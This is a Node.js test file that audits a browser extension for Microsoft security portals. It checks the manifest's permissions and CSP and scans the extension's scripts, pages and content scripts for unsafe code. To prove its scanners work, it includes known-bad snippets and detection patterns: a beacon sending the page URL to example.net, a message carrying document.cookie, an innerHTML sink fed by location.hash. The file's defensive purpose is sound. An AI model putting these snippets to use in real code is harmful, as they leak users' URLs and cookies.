// Audit of what the extension may do and of the code it ships, without a browser.
//
// 1. The built manifest (dist/extension/manifest.json, made by ./build.sh) asks for nothing
//    beyond the allowlist: four permissions (unlimitedStorage since issue 10; scripting since
//    issue 12, to register the same content scripts on an opt-in portal the user granted), the
//    three portal hosts over http and https, Purview's host as the only optional host
//    permission, exactly one content script pair on the portal hosts, a CSP that allows only the
//    extension's own scripts and WebAssembly, and no way for web pages or other extensions to
//    reach in.
// 2. No hand-written page, script or style sheet under extension/ and www/ turns text into code
//    or markup (innerHTML, eval, new Function, string timers, ...) or loads anything remote.
// 3. The shipped wasm-bindgen glue has no path that builds a function from text, which the
//    extension's CSP would refuse (the browser tests listen for CSP violations at run time).
// 4. The content scripts read and write nothing but what ARCHITECTURE.md says: no storage, no
//    network, no cookies; their only extension calls are runtime.getManifest (the packaged host
//    list), one runtime.sendMessage({what: 'pageTenant'}), runtime.onMessage (the background's
//    tabTenant) and i18n.getMessage (the home and unknown wording); the page-world script uses
//    no extension API and hands over only the URL; the only attributes they set are a link's
//    href, the one data attribute the two scripts answer through, and aria-hidden on the line
//    they draw.
//
// Each scanner is also run on known-bad snippets, so a scanner that stopped finding anything
// fails here rather than passing silently.
import { strict as assert } from 'node:assert';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { dirname, extname, join, relative } from 'node:path';
import { describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const DIST = join(ROOT, 'dist', 'extension');
const GLUE = join(DIST, 'core', 'tenant_switch.js');

const PORTAL_HOSTS = ['securitycenter.windows.com', 'securitycenter.microsoft.com', 'security.microsoft.com'];
const PERMISSIONS = ['declarativeNetRequestWithHostAccess', 'scripting', 'storage', 'unlimitedStorage'];
const OPTIONAL_HOST_PERMISSIONS = ['http://purview.microsoft.com/*', 'https://purview.microsoft.com/*'];
const HOST_PERMISSIONS = PORTAL_HOSTS.flatMap((host) => [`https://${host}/*`, `http://${host}/*`]).sort();
const CSP = "script-src 'self' 'wasm-unsafe-eval'; object-src 'self'";

/** Keys that would let pages, other extensions or a remote server reach into the extension. */
const FORBIDDEN_KEYS = [
  'web_accessible_resources',
  'externally_connectable',
  'optional_permissions',
  'update_url',
  'sandbox',
  'chrome_url_overrides',
  'devtools_page',
  'oauth2',
  'key',
];

function readJson(path) {
  assert.ok(existsSync(path), `${relative(ROOT, path)} is missing: run ./build.sh first`);
  return JSON.parse(readFileSync(path, 'utf8'));
}

// ---------------------------------------------------------------------------------------------
// Scanners

/**
 * The JavaScript source with the contents of comments, string literals, template text and
 * regular expression literals blanked out (newlines kept, quotes kept), so that code checks do
 * not trip over prose and data, and line numbers stay right.
 */
export function codeOnly(source) {
  let out = '';
  let i = 0;
  // Template literal nesting: each entry counts the braces open inside one `${ ... }`.
  const templates = [];
  let lastSignificant = '';
  // The identifier or keyword being read, so that `return /x/` starts a regular expression.
  let word = '';
  const blank = (text) => text.replace(/[^\n]/g, ' ');
  const regexMayStart = () =>
    lastSignificant === '' ||
    /^[(,=:[!&|?{};+\-*%<>~^]$/.test(lastSignificant) ||
    /^(?:return|typeof|case|do|else|in|of|void|yield|await|delete|throw|new)$/.test(lastSignificant);
  const readTemplateText = () => {
    // At the character after "`" or "}" that continues a template.
    const start = i;
    while (i < source.length) {
      if (source[i] === '\\') {
        i += 2;
      } else if (source[i] === '`') {
        out += blank(source.slice(start, i)) + '`';
        i += 1;
        lastSignificant = '`';
        return;
      } else if (source[i] === '$' && source[i + 1] === '{') {
        out += blank(source.slice(start, i)) + '${';
        i += 2;
        templates.push(0);
        lastSignificant = '{';
        return;
      } else {
        i += 1;
      }
    }
    out += blank(source.slice(start));
  };
  while (i < source.length) {
    const c = source[i];
    const next = source[i + 1];
    if (c === '/' && next === '/') {
      const end = source.indexOf('\n', i);
      const stop = end === -1 ? source.length : end;
      out += blank(source.slice(i, stop));
      i = stop;
    } else if (c === '/' && next === '*') {
      const end = source.indexOf('*/', i + 2);
      const stop = end === -1 ? source.length : end + 2;
      out += blank(source.slice(i, stop));
      i = stop;
    } else if (c === '"' || c === "'") {
      let j = i + 1;
      while (j < source.length && source[j] !== c && source[j] !== '\n') j += source[j] === '\\' ? 2 : 1;
      out += c + blank(source.slice(i + 1, j)) + c;
      i = j + 1;
      lastSignificant = c;
    } else if (c === '`') {
      out += '`';
      i += 1;
      readTemplateText();
    } else if (c === '{' && templates.length > 0) {
      templates[templates.length - 1] += 1;
      out += c;
      i += 1;
      lastSignificant = c;
    } else if (c === '}' && templates.length > 0 && templates[templates.length - 1] === 0) {
      templates.pop();
      out += '}';
      i += 1;
      readTemplateText();
    } else if (c === '}' && templates.length > 0) {
      templates[templates.length - 1] -= 1;
      out += c;
      i += 1;
      lastSignificant = c;
    } else if (c === '/' && regexMayStart()) {
      let j = i + 1;
      let inClass = false;
      while (j < source.length && source[j] !== '\n') {
        if (source[j] === '\\') j += 1;
        else if (source[j] === '[') inClass = true;
        else if (source[j] === ']') inClass = false;
        else if (source[j] === '/' && !inClass) break;
        j += 1;
      }
      out += '/' + blank(source.slice(i + 1, j)) + '/';
      i = j + 1;
      lastSignificant = '/x/';
    } else {
      out += c;
      i += 1;
      if (/[\w$]/.test(c)) {
        word += c;
        lastSignificant = word;
      } else {
        word = '';
        if (!/\s/.test(c)) lastSignificant = c;
      }
      continue;
    }
    word = '';
  }
  return out;
}

/** Code that turns text into markup or code. Checked on code with strings and comments blanked. */
const CODE_RULES = [
  [/\.\s*innerHTML\b/, 'innerHTML'],
  [/\.\s*outerHTML\b/, 'outerHTML'],
  [/\binsertAdjacentHTML\b/, 'insertAdjacentHTML'],
  [/\b(?:setHTMLUnsafe|parseHTMLUnsafe|createContextualFragment)\b/, 'HTML parsing from a string'],
  [/\.\s*srcdoc\b/, 'srcdoc'],
  [/\bdocument\s*\.\s*write(?:ln)?\b/, 'document.write'],
  [/(?<![\w$])eval\s*\(/, 'eval('],
  [/\bnew\s+Function\b/, 'new Function'],
  [/(?<![\w$])Function\s*\(/, 'Function('],
  [/\bset(?:Timeout|Interval)\s*\(\s*['"`]/, 'string passed to setTimeout/setInterval'],
];

/** A URL that leaves the extension: `http:`, `https:` or protocol-relative `//`. */
const REMOTE = String.raw`(?:https?:)?//`;

/** Remote loads in JavaScript. Checked on the raw text: the URL is in a string. */
const SCRIPT_REMOTE_RULES = [
  [new RegExp(String.raw`\bimport\s*(?:[\w$*{}\s,]+\sfrom\s*)?['"]${REMOTE}`), 'import from a remote URL'],
  [new RegExp(String.raw`\bimport\s*\(\s*['"\`]${REMOTE}`), 'dynamic import of a remote URL'],
  [new RegExp(String.raw`\bfetch\s*\(\s*['"\`]${REMOTE}`), 'fetch of a remote URL'],
  [new RegExp(String.raw`\bimportScripts\s*\(\s*['"\`]${REMOTE}`), 'importScripts of a remote URL'],
  [new RegExp(String.raw`\bnew\s+(?:Shared)?Worker\s*\(\s*['"\`]${REMOTE}`), 'worker from a remote URL'],
  [new RegExp(String.raw`\bnew\s+(?:WebSocket|EventSource)\s*\(`), 'WebSocket or EventSource'],
  [new RegExp(String.raw`\.\s*src\s*=\s*['"\`]${REMOTE}`), 'remote src assigned'],
  [new RegExp(String.raw`setAttribute\s*\(\s*['"](?:src|href)['"]\s*,\s*['"\`]${REMOTE}`), 'remote src/href set'],
  [new RegExp(String.raw`\bsendBeacon\s*\(`), 'sendBeacon'],
  [/\bXMLHttpRequest\b/, 'XMLHttpRequest'],
];

/** Remote loads and inline code in HTML. */
const HTML_RULES = [
  [new RegExp(String.raw`<script\b[^>]*\ssrc\s*=\s*['"]?${REMOTE}`, 'i'), '<script src> from a remote URL'],
  [new RegExp(String.raw`<link\b[^>]*\shref\s*=\s*['"]?${REMOTE}`, 'i'), '<link href> to a remote URL'],
  [new RegExp(String.raw`<(?:img|iframe|frame|embed|object|audio|video|source|track|input)\b[^>]*\s(?:src|data)\s*=\s*['"]?${REMOTE}`, 'i'), 'remote resource'],
  [/<(?:iframe|frame|object|embed|base)\b/i, 'frame, plugin or <base> element'],
  [/\son[a-z]+\s*=/i, 'inline event handler attribute'],
  [/\b(?:href|src|action)\s*=\s*['"]?\s*javascript:/i, 'javascript: URL'],
  [new RegExp(String.raw`<form\b[^>]*\saction\s*=\s*['"]?${REMOTE}`, 'i'), 'form posting to a remote URL'],
  [/<meta\b[^>]*http-equiv\s*=\s*['"]?refresh/i, 'meta refresh'],
];

/** Remote loads in CSS. */
const CSS_RULES = [
  [new RegExp(String.raw`@import\s+(?:url\(\s*)?['"]?${REMOTE}`, 'i'), '@import of a remote URL'],
  [new RegExp(String.raw`url\(\s*['"]?${REMOTE}`, 'i'), 'url() of a remote resource'],
];

function lineOf(text, index) {
  return text.slice(0, index).split('\n').length;
}

function findAll(text, rules) {
  const found = [];
  for (const [pattern, what] of rules) {
    const global = new RegExp(pattern.source, pattern.flags.includes('g') ? pattern.flags : `${pattern.flags}g`);
    for (const match of text.matchAll(global)) found.push({ line: lineOf(text, match.index), what });
  }
  return found;
}

/** The problems in one file's text, by file type. */
export function audit(text, extension) {
  if (extension === '.js' || extension === '.mjs') {
    return [...findAll(codeOnly(text), CODE_RULES), ...findAll(text, SCRIPT_REMOTE_RULES)];
  }
  if (extension === '.html') {
    const problems = findAll(text, HTML_RULES);
    // Inline scripts are checked as scripts, with line numbers of the page.
    for (const match of text.matchAll(/(<script\b[^>]*>)([\s\S]*?)<\/script\s*>/gi)) {
      const offset = match.index + match[1].length;
      const padded = text.slice(0, offset).replace(/[^\n]/g, ' ') + match[2];
      problems.push(...audit(padded, '.js'));
    }
    return problems;
  }
  if (extension === '.css') return findAll(text, CSS_RULES);
  return [];
}

/** Hand-written files under `dir`: no dependencies, no build output, no generated glue. */
function handWritten(dir) {
  const files = [];
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) {
      if (['node_modules', 'core', 'pkg', 'dist', '.git'].includes(entry.name)) continue;
      files.push(...handWritten(path));
    } else if (['.js', '.mjs', '.html', '.css'].includes(extname(entry.name))) {
      files.push(path);
    }
  }
  return files;
}

// ---------------------------------------------------------------------------------------------
// 1. The manifest

describe('built manifest', () => {
  const manifest = readJson(join(DIST, 'manifest.json'));

  test('asks for exactly storage, unlimitedStorage, scripting and declarativeNetRequestWithHostAccess', () => {
    assert.deepEqual([...(manifest.permissions ?? [])].sort(), PERMISSIONS);
  });

  test('may ask later for Purview\'s host only, never at install', () => {
    assert.deepEqual([...(manifest.optional_host_permissions ?? [])].sort(), OPTIONAL_HOST_PERMISSIONS);
  });

  test('has host access to the three portal hosts over http and https, nothing else', () => {
    assert.deepEqual([...(manifest.host_permissions ?? [])].sort(), HOST_PERMISSIONS);
  });

  test('has the CSP that allows only its own scripts and WebAssembly', () => {
    assert.equal(manifest.manifest_version, 3);
    assert.deepEqual(manifest.content_security_policy, { extension_pages: CSP });
  });

  test('has exactly one content script pair, on the portal hosts, in the top frame, from document_start', () => {
    const entries = manifest.content_scripts ?? [];
    const normalised = entries.map((entry) => ({ ...entry, matches: [...(entry.matches ?? [])].sort() }));
    assert.deepEqual(normalised, [
      { matches: HOST_PERMISSIONS, js: ['content/portal-tenant.js'], run_at: 'document_start', all_frames: false },
      {
        matches: HOST_PERMISSIONS,
        js: ['content/portal-open.js'],
        run_at: 'document_start',
        all_frames: false,
        world: 'MAIN',
      },
    ]);
    for (const entry of entries) {
      for (const path of entry.js) assert.ok(existsSync(join(DIST, path)), `${path} is not in dist/extension`);
    }
  });

  test('lets no web page, other extension or remote server reach in', () => {
    const present = FORBIDDEN_KEYS.filter((key) => key in manifest);
    assert.deepEqual(present, []);
  });

  test('runs only its own packaged files', () => {
    const local = [
      manifest.background?.service_worker,
      ...(manifest.background?.scripts ?? []),
      manifest.action?.default_popup,
      manifest.options_ui?.page,
    ].filter((path) => path !== undefined);
    assert.ok(local.length >= 3, `background, popup and options expected, found ${local}`);
    for (const path of local) {
      assert.doesNotMatch(path, /^[a-z][a-z0-9+.-]*:|^\/\//i, `${path} is not a packaged file`);
      assert.ok(existsSync(join(DIST, path)), `${path} is not in dist/extension`);
    }
  });
});

// ---------------------------------------------------------------------------------------------
// 2. Hand-written pages and scripts

describe('hand-written pages and scripts', () => {
  test('the scanners find what they look for', () => {
    const bad = {
      '.js': [
        'el.innerHTML = name;',
        'el.outerHTML = x;',
        'el.insertAdjacentHTML("beforeend", x);',
        'document.write(x);',
        'eval(text);',
        'window.eval (text);',
        'const f = new Function("return 1");',
        'const f = Function("return 1");',
        'const f = globalThis.Function("return 1");',
        "setTimeout('go()', 10);",
        'setInterval(`tick()`, 10);',
        "import x from 'https://cdn.example.net/x.js';",
        "import 'https://cdn.example.net/x.js';",
        'import("//cdn.example.net/x.js");',
        "fetch('https://example.net/log');",
        "img.src = 'https://example.net/pixel.gif';",
        'const y = `${a}`; el.innerHTML = y;',
      ],
      '.html': [
        '<script src="https://cdn.example.net/x.js"></script>',
        '<script src=//cdn.example.net/x.js></script>',
        '<link rel="stylesheet" href="https://fonts.example.net/a.css">',
        '<img src="http://example.net/x.png">',
        '<button onclick="go()">Go</button>',
        '<a href="javascript:go()">Go</a>',
        '<iframe src="frame.html"></iframe>',
        '<script>document.body.innerHTML = location.hash;</script>',
      ],
      '.css': ['@import url("https://fonts.example.net/a.css");', 'body { background: url(//example.net/x.png); }'],
    };
    for (const [extension, snippets] of Object.entries(bad)) {
      for (const snippet of snippets) {
        assert.notDeepEqual(audit(snippet, extension), [], `not caught: ${snippet}`);
      }
    }
    const good = {
      '.js': [
        '// Never use innerHTML here; eval( is forbidden too.',
        "const hint = 'set innerHTML? no: new Function(x) is refused';",
        'el.textContent = name;',
        "const PORTAL = 'https://security.microsoft.com/';",
        "import init, * as core from './core/tenant_switch.js';",
        'const re = /eval\\(|innerHTML/g; const t = `el.innerHTML ${re.source} eval(`;',
        'setTimeout(() => go(), 10);',
        "a.href = 'https://security.microsoft.com/?tid=' + id;",
        'const evaluate = 1; myeval(x); toFunction(x);',
      ],
      '.html': [
        '<a href="https://security.microsoft.com/">portal</a>',
        '<script type="module" src="popup.js"></script>',
        '<link rel="stylesheet" href="popup.css">',
        '<p>Never paste an innerHTML snippet.</p>',
      ],
      '.css': ['body { background: url(icons/icon-16.png); }'],
    };
    for (const [extension, snippets] of Object.entries(good)) {
      for (const snippet of snippets) {
        assert.deepEqual(audit(snippet, extension), [], `false alarm: ${snippet}`);
      }
    }
  });

  test('no page or script under extension/ or www/ builds markup or code from text, or loads anything remote', () => {
    const files = [...handWritten(join(ROOT, 'extension')), ...handWritten(join(ROOT, 'www'))];
    assert.ok(files.some((file) => file.endsWith('popup.js')), 'extension/popup.js expected');
    assert.ok(files.some((file) => file.endsWith('.html')), 'pages expected');
    const problems = files.flatMap((file) =>
      audit(readFileSync(file, 'utf8'), extname(file)).map(
        ({ line, what }) => `${relative(ROOT, file)}:${line}: ${what}`,
      ),
    );
    assert.deepEqual(problems, []);
  });
});

// ---------------------------------------------------------------------------------------------
// 4. The content scripts

/** What a content script must not touch: storage, the network, cookies, other windows. */
const CONTENT_RULES = [
  [/\bfetch\s*\(/, 'fetch'],
  [/\bXMLHttpRequest\b/, 'XMLHttpRequest'],
  [/\bsendBeacon\b/, 'sendBeacon'],
  [/\b(?:WebSocket|EventSource|WebTransport|RTCPeerConnection)\b/, 'a network connection'],
  [/\bimportScripts\b|\bimport\s*\(/, 'loading code'],
  [/\bnew\s+(?:Image|Worker|SharedWorker)\b/, 'a request through an element or worker'],
  [/\bstorage\b/i, 'storage'],
  [/\b(?:localStorage|sessionStorage|indexedDB|caches)\b/, 'page storage'],
  [/\bcookies?\b|\bcookieStore\b/i, 'cookies'],
  [/\bpostMessage\b/, 'postMessage'],
];

/** The extension APIs `code` reaches, as `namespace.member`, through chrome, browser or an alias of them. */
function extensionCalls(code) {
  const bases = new Set(['chrome', 'browser']);
  for (const m of code.matchAll(/\b(?:const|let|var)\s+([\w$]+)\s*=\s*([^;]*)/g)) {
    if (/(?<![\w$])(?:chrome|browser)(?![\w$])/.test(m[2])) bases.add(m[1]);
  }
  const calls = [];
  for (const m of code.matchAll(/(?<![\w$])([\w$]+)\s*\.\s*([\w$]+)(?:\s*\.\s*([\w$]+))?/g)) {
    if (bases.has(m[1]) || (m[1] === 'globalThis' && bases.has(m[2]) && m[3])) {
      calls.push(m[1] === 'globalThis' ? `${m[3]}` : `${m[2]}${m[3] ? `.${m[3]}` : ''}`);
    }
  }
  return calls;
}

/** The problems of one content script's text; `world` is 'ISOLATED' or 'MAIN'. */
export function auditContentScript(text, world) {
  const code = codeOnly(text);
  const problems = findAll(code, CONTENT_RULES).map(({ line, what }) => `line ${line}: ${what}`);
  const allowed =
    world === 'MAIN' ? [] : ['runtime.getManifest', 'runtime.sendMessage', 'runtime.onMessage', 'i18n.getMessage'];
  const globalAccess = code.match(/globalThis\s*\.\s*(?:chrome|browser)\b/g) ?? [];
  for (const call of extensionCalls(code)) {
    if (!allowed.includes(call)) problems.push(`extension API ${call}`);
  }
  if (world === 'MAIN' && (globalAccess.length || /(?<![\w$.])(?:chrome|browser)(?![\w$])/.test(code))) {
    problems.push('the page-world script touches an extension API');
  }
  const sends = [...text.matchAll(/\.\s*sendMessage\s*\(([^)]*)\)/g)].map((m) => m[1].replace(/\s+/g, ' ').trim());
  const expectedSends = world === 'MAIN' ? [] : ["{ what: 'pageTenant' }"];
  if (JSON.stringify(sends) !== JSON.stringify(expectedSends)) problems.push(`sendMessage calls ${JSON.stringify(sends)}`);
  for (const m of text.matchAll(/\.\s*setAttribute\s*\(\s*([^,]+),/g)) {
    const name = m[1].trim();
    if (!["'href'", "'data-tenant-switch-open'", "'aria-hidden'"].includes(name)) {
      problems.push(`sets the attribute ${name}`);
    }
  }
  for (const m of text.matchAll(/new\s+CustomEvent\s*\(([^;]*?)\)\s*;/g)) {
    if (!/\bdetail:\s*String\(url\)\s*,/.test(m[1])) problems.push(`a DOM event with more than the URL: ${m[1]}`);
  }
  return problems;
}

describe('content scripts', () => {
  const manifest = readJson(join(DIST, 'manifest.json'));
  const scripts = (manifest.content_scripts ?? []).flatMap((entry) => entry.js.map((path) => [path, entry.world ?? 'ISOLATED']));

  test('the scanner finds what it looks for', () => {
    const isolated = "const api = globalThis.browser ?? globalThis.chrome;\napi.runtime.sendMessage({ what: 'pageTenant' });\n";
    assert.deepEqual(auditContentScript(isolated, 'ISOLATED'), []);
    const open = "const asked = new CustomEvent('tenant-switch:open', { detail: String(url), cancelable: true });\n";
    assert.deepEqual(auditContentScript(open, 'MAIN'), []);
    const bad = [
      ["fetch('https://example.net/x');", 'ISOLATED'],
      ['navigator.sendBeacon(u, d);', 'ISOLATED'],
      ['const x = new XMLHttpRequest();', 'ISOLATED'],
      ['chrome.storage.local.get(null);', 'ISOLATED'],
      ['const a = chrome; a.storage.local.set({});', 'ISOLATED'],
      ['localStorage.setItem("tid", t);', 'ISOLATED'],
      ['const c = document.cookie;', 'ISOLATED'],
      ["api.runtime.sendMessage({ what: 'pageTenant', cookie: document.cookie });", 'ISOLATED'],
      ["const api = chrome; api.runtime.sendMessage({ what: 'pageTenant' }); api.runtime.sendMessage({ what: 'log', url });", 'ISOLATED'],
      ["const api = chrome; api.runtime.connect();", 'ISOLATED'],
      ["const api = chrome; api.runtime.sendMessage({ what: 'pageTenant' }); api.tabs.query({});", 'ISOLATED'],
      ["const api = chrome; api.runtime.sendMessage({ what: 'pageTenant' }); api.scripting.executeScript({});", 'ISOLATED'],
      ["document.body.setAttribute('data-secret', s);", 'ISOLATED'],
      ["new CustomEvent('tenant-switch:open', { detail: { url, cookie: document.cookie } });", 'MAIN'],
      ["chrome.runtime.sendMessage('id', {});", 'MAIN'],
      ["document.documentElement.setAttribute('data-tid', tid);", 'MAIN'],
      ['window.top.postMessage(location.href, "*");', 'MAIN'],
      ['new Image().src = "https://example.net/?" + location.href;', 'MAIN'],
    ];
    for (const [snippet, world] of bad) {
      const text = world === 'ISOLATED' && !snippet.includes('sendMessage') ? `${snippet}\napi.runtime.sendMessage({ what: 'pageTenant' });` : snippet;
      assert.notDeepEqual(auditContentScript(text, world), [], `not caught: ${snippet}`);
    }
  });

  test('read and write nothing but the tab\'s tid, a link\'s href and the URL handed to window.open', () => {
    assert.deepEqual(scripts.map(([path]) => path).sort(), ['content/portal-open.js', 'content/portal-tenant.js']);
    const problems = scripts.flatMap(([path, world]) =>
      auditContentScript(readFileSync(join(DIST, path), 'utf8'), world).map((problem) => `${path}: ${problem}`),
    );
    assert.deepEqual(problems, []);
  });
});

// ---------------------------------------------------------------------------------------------
// 3. The shipped wasm-bindgen glue

describe('shipped wasm glue', () => {
  test('has no code path that builds a function from text (the CSP would refuse it)', () => {
    assert.ok(existsSync(GLUE), `${relative(ROOT, GLUE)} is missing: run ./build.sh first`);
    const source = readFileSync(GLUE, 'utf8');
    const code = codeOnly(source);
    const found = findAll(code, CODE_RULES.filter(([, what]) => ['eval(', 'new Function', 'Function('].includes(what)));
    // Name the wasm import each finding sits in: that import is what to keep out of the core.
    const lines = code.split('\n');
    const where = found.map(({ line, what }) => {
      const before = lines.slice(0, line).reverse();
      const owner = before.map((text) => text.match(/\b(__wbg_[\w$]+|__wbindgen_[\w$]+)/)).find(Boolean);
      return `${what} at line ${line}, in ${owner ? owner[1] : 'top-level glue'}`;
    });
    assert.deepEqual(where, []);
  });
});
